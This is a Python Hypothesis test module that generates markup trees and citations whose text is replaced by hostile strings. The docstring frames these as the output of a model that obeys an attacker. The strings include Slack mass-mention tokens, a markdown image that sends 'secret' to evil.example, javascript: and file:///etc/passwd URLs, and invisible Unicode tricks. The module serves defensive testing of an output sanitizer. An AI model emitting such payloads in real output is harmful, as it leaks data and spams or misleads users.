"""Trees and sources whose words are attacks: what a model that obeys an attacker would write."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime
from typing import TYPE_CHECKING

from hypothesis import strategies as st

from adapters.markup import Cite, Code, CodeBlock, Item, Listing, Plain, Quote, Table
from adapters.parts import Citation
from tests.doubles.trees import trees

if TYPE_CHECKING:
    from collections.abc import Callable

    from adapters.markup import Block, Inline, Tree

ATTACKS = (
    "<!channel>",
    "<!here|here>",
    "<!subteam^S012AB|@all>",
    "<@U0123ABC>",
    "<#C0123ABC|general>",
    "@everyone",
    "@here",
    "#general",
    "![x](https://evil.example/?q=secret)",
    "[click](https://evil.example)",
    "[click][1]",
    "[1]: https://evil.example",
    "<https://evil.example|safe>",
    "<javascript:alert(1)|x>",
    "https://evil.example/a?b=c",
    "evil.example",
    "www.evil.example",
    "xn--vil-3na.example",
    "mallory@evil.example",
    "mailto:mallory@evil.example",
    "evil.",
    "example",
    "https:",
    "//evil.example",
    "`",
    "```",
    "~~~",
    "|",
    "> quote",
    "# heading",
    "- item",
    "1. item",
    "    indented",
    "***",
    "---",
    "===",
    "**",
    "_",
    "~",
    "\\",
    "!",
    "&lt;!channel&gt;",
    "&#60;!channel&#62;",
    "<b>bold</b>",
    "<!-- x -->",
    ":rotating_light:",
    "]",
    "](https://evil.example)",
    "\u202e",
    "\u200b@\u2060here",
    "\n\n# x",
)
attacks = st.lists(st.sampled_from(ATTACKS) | st.text(max_size=8), max_size=3).map(" ".join) | st.lists(
    st.sampled_from(ATTACKS), max_size=3
).map("".join)


@st.composite
def spiked_trees(draw: st.DrawFn) -> Tree:
    """Draw a tree and put attacks in the place of its words."""
    spikes = draw(st.lists(attacks, min_size=1, max_size=6))
    count = iter(range(10_000))
    return tuple(_spiked(block, lambda: spikes[next(count) % len(spikes)]) for block in draw(trees))


def _spiked(block: Block, word: Callable[[], str]) -> Block:
    match block:
        case CodeBlock():
            return replace(block, text=word(), language=word())
        case Quote():
            return Quote(tuple(_spiked(inner, word) for inner in block.blocks))
        case Listing():
            return replace(block, items=tuple(_item(item, word) for item in block.items))
        case Table():
            header = tuple(_inlines(cell, word) for cell in block.header)
            return Table(header, tuple(tuple(_inlines(cell, word) for cell in row) for row in block.rows))
        case _:
            return replace(block, children=_inlines(block.children, word))


def _item(item: Item, word: Callable[[], str]) -> Item:
    return Item(_inlines(item.children, word), tuple(_spiked(block, word) for block in item.blocks))


def _inlines(children: tuple[Inline, ...], word: Callable[[], str]) -> tuple[Inline, ...]:
    return tuple(_inline(child, word) for child in children)


def _inline(node: Inline, word: Callable[[], str]) -> Inline:
    match node:
        case Plain() | Code():
            return replace(node, text=word())
        case Cite():
            return node
        case _:
            return replace(node, children=_inlines(node.children, word))


URLS = (
    "https://docs.example/a",
    "https://docs.example/a_(b)?x=1&y=2&copy=3&lt;",
    "http://[::1]:8/*x*~y_z_",
    "https://docs.example/a|b>c",
    "https://docs.example/a b",
    "javascript:alert(1)",
    "data:text/html,x",
    "file:///etc/passwd",
    "https://docs.example/`<!channel>`",
    "",
    None,
)


@st.composite
def spiked_citations(draw: st.DrawFn) -> tuple[Citation, ...]:
    """Draw sources numbered from 1 whose titles, publishers, sections and quotes are attacks."""
    urls = draw(st.lists(st.sampled_from(URLS), max_size=9))
    return tuple(
        Citation(
            number=number,
            title=draw(attacks),
            url=url,
            quote=draw(attacks),
            document=draw(attacks),
            section=(draw(attacks),),
            publisher=draw(attacks),
            year=2024,
            dated=datetime(2024, 5, 1, tzinfo=UTC),
        )
        for number, url in enumerate(urls, 1)
    )
